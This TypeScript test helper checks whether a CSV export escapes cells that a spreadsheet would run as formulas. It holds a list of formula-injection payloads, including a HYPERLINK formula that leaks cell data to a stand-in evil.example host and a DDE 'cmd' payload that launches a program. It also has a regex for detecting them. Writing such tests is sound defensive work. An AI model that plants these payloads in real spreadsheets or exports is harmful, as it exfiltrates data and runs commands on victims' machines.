/**
 * Test support: opens a CSV as text, the way a spreadsheet reads it, and lists every cell a
 * spreadsheet could run as a formula. Written independently of src/lib/data/csv/formulaCell.ts so
 * a mistake there cannot hide itself here: a cell is dangerous when its first character (after any
 * spaces) is = + - @ (or a full-width one), or it starts with a tab, carriage return or NUL;
 * a plain decimal number such as -5 is a number, not a formula.
 */
import Papa from 'papaparse';

/** Hostile cell texts: formulas, DDE, the tab/CR tricks, and text that only looks like a number. */
export const FORMULA_PAYLOADS = [
	'=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	' =1+1',
	'=cmd|\' /C calc\'!A0',
	'-5 %',
	'＝1+1',
	'line one\n=line two'
] as const;

const DANGEROUS = /^(?:[\t\r\0]|[\s\u3000]*[=+\-@＝＋－＠])/;
const NUMBER = /^-?\d*\.?\d+(?:[eE][-+]?\d+)?$/;

export interface FormulaCell {
	row: number;
	column: number;
	text: string;
}

export function formulaCells(csv: string): FormulaCell[] {
	const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
	if (parsed.errors.length) throw new Error(`not valid CSV: ${parsed.errors[0].message} (row ${parsed.errors[0].row})`);
	return parsed.data.flatMap((cells, row) =>
		cells.flatMap((text, column) => (DANGEROUS.test(text) && !NUMBER.test(text) ? [{ row, column, text }] : []))
	);
}
